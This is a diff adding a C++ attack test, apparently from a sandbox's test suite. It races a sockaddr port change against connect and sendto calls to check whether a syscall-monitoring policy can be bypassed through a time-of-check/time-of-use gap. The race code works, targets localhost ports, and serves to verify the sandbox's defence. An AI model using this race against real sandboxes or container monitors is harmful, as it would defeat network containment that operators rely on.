@@ -1,0 +1,80 @@
+// attack: sockaddr-race
+// class: races
+// severity: critical
+// models: naive canonical
+// trap: Flip the port inside the sockaddr while connect and sendto run: allowed when the monitor reads,
+//   forbidden when the kernel does.
+// naive: Reads, allows, continues; and logs what it reads afterwards, a third address.
+// kernel: move_addr_to_kernel copies the address at its own time.
+// sealed: The address is copied once into the sealed slot; judged, used and logged from there.
+// source: Watson, WOOT 2007; rootless-containers/bypass4netns#22
+// time: 4000
+// policy:
+//   path allow read,execute /usr/**
+//   path allow $T/
+//   network allow tcp connect 127.0.0.1:$OK_TCP
+//   network allow udp connect,send 127.0.0.1:$OK_UDP
+// report: 127.0.0.1:
+#include <atomic>
+#include <thread>
+#include "tests/support/attack.h"
+
+namespace attack {
+namespace {
+
+long race(bool tcp, int good_port, int bad_port) {
+  alignas(8) static sockaddr_in address;
+  address = v4("127.0.0.1", good_port);
+  auto* port = reinterpret_cast<volatile uint16_t*>(&address.sin_port);
+  std::atomic<bool> stop{false};
+  std::thread other([&] {
+    while (!stop.load(std::memory_order_relaxed)) {
+      *port = htons(static_cast<uint16_t>(bad_port));
+      *port = htons(static_cast<uint16_t>(good_port));
+    }
+  });
+  long good = 0;
+  int udp = ::socket(AF_INET, SOCK_DGRAM, 0);
+  for (Stopwatch watch; watch.running() && good < (tcp ? 3000 : 100000);) {
+    if (tcp) {
+      int s = ::socket(AF_INET, SOCK_STREAM, 0);
+      if (s >= 0 && ::connect(s, as_sockaddr(address), sizeof address) == 0) {
+        sockaddr_in peer{};
+        socklen_t length = sizeof peer;
+        if (::getpeername(s, as_sockaddr(peer), &length) == 0 &&
+            ntohs(peer.sin_port) != good_port) {
+          prey_taken("connected to the forbidden port");
+        }
+        ++good;
+      }
+      ::close(s);
+    } else if (::sendto(udp, "x", 1, 0, as_sockaddr(address), sizeof address) == 1) {
+      ++good;
+    }
+  }
+  ::close(udp);
+  stop = true;
+  other.join();
+  return good;
+}
+
+}  // namespace
+
+void strike() {
+  long sent = race(false, number("ATTACK_OK_UDP"), number("ATTACK_UDP"));
+  long connected = race(true, number("ATTACK_OK_TCP"), number("ATTACK_TCP"));
+  std::printf("connected %ld, sent %ld\n", connected, sent);
+  must(connected > 0 && sent > 0, "none got through: the race was never run");
+  errno = 0;
+  held("all went where the policy allows");
+}
+
+void twin() {
+  int port = number("ATTACK_OK_TCP");
+  must(race(true, port, port) > 20, "connects");
+  port = number("ATTACK_OK_UDP");
+  must(race(false, port, port) > 20, "sends");
+  twin_ok();
+}
+
+}  // namespace attack
